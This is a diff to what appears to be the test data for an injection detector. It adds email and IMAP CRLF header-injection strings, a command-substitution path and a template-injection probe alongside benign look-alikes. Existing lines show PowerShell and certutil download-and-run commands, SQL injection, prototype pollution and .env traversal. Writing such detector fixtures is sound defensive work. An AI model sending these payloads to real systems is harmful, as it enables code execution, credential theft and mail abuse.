@@ -262,14 +262,17 @@ ADDED_CLASS_ATTACKS = [
     "certutil -urlcache -split -f http://x/a.exe", "powershell -enc SQBFAFgA",
     "powershell.exe -NoP -c iex(new-object net.webclient)",
     "IEX (New-Object Net.WebClient).DownloadString('http://x/a')", "../.env",
+    "me@example.com\r\nBcc: victim@example.com", "x\nRCPT TO: <a@b>", "INBOX\r\nA1 LOGIN admin pass",
+    "a\r\n1 fetch 1:* body[]",
 ]
 ADDED_CLASS_PATHS = ["/item/1%20union%20select%201,2", "/p/1'%20union%20select%20password%20from%20users--",
-                     "/x/sleep(5)", "/s?x[__proto__][isAdmin]=true"]
+                     "/x/sleep(5)", "/s?x[__proto__][isAdmin]=true", "/%24(id)", "/%7B%7B7*7%7D%7D"]
 ADDED_CLASS_BENIGN = [
     "proto type", "constructor of a class", "print()", "$5 GET 2", "http://1.2.3.4/",
     "http://example.com/a?", "certutil hash file", "powershell get-childitem", "config web",
     "my .env setup", "what is web.config", "onboarding = step 1", "it's on", "'on' =", "adw-123",
-    "I'm onfire=true", "Union Select Committee",
+    "I'm onfire=true", "Union Select Committee", "line one\nto: be continued", "Hi,\nCc: the team",
+    "first line\nsubject: ideas",
 ]
 
 def attacks() -> list[Entry]:
